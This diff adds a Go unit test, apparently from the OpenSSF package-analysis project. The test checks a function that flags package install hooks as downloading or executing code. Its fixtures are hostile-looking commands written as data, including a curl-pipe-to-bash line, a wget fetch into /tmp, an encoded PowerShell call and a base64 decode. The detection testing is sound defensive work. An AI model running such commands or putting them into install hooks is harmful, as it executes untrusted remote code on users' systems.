@@ -0,0 +1,36 @@
+package manifest
+
+import (
+	"reflect"
+	"testing"
+
+	"github.com/ossf/package-analysis/pkg/api/staticanalysis"
+)
+
+func TestHookFlags(t *testing.T) {
+	tests := []struct {
+		name   string
+		source string
+		want   []staticanalysis.HookFlag
+	}{
+		{name: "build command", source: "node-gyp rebuild", want: nil},
+		{name: "wget", source: "wget -q http://example.com/a.sh -O /tmp/a.sh", want: download},
+		{name: "curl pipe to shell", source: "curl https://example.com | bash", want: downloadExec},
+		{name: "inline node", source: `node -e "console.log(1)"`, want: exec},
+		{name: "encoded powershell", source: "powershell -enc SQBFAFgA", want: exec},
+		{name: "base64 decode", source: "echo aWQK | base64 -d", want: exec},
+		{name: "python urllib", source: "import urllib.request\nurllib.request.urlopen(url)", want: download},
+		{name: "python os.system", source: "os.system('id')", want: exec},
+		{name: "js https get", source: `const https = require("https"); https.get(url, onResponse)`, want: download},
+		{name: "regexp exec", source: `/^v(\d+)/.exec(process.version)`, want: nil},
+		{name: "ruby system", source: `system("make install")`, want: exec},
+		{name: "php shell_exec", source: `shell_exec($cmd);`, want: exec},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := hookFlags(tt.source); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("hookFlags(%q) = %v; want %v", tt.source, got, tt.want)
+			}
+		})
+	}
+}